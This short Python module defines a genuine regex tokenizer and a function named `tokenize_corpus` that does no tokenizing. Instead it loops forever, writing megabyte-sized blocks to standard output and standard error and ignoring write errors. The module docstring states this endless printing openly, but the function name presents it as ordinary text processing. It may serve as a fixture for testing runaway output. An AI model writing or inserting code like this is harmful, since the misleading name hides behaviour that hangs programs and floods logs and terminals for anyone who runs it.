"""Prints without end, on every stream and descriptor."""

import os
import re


def tokenize(text):
    return re.findall(r"\b\w+\b", text.lower())


def tokenize_corpus(texts):
    while True:
        print("x" * 2**20)
        for fd in (1, 2):
            try:
                os.write(fd, b"x" * 2**20)
            except OSError:
                pass
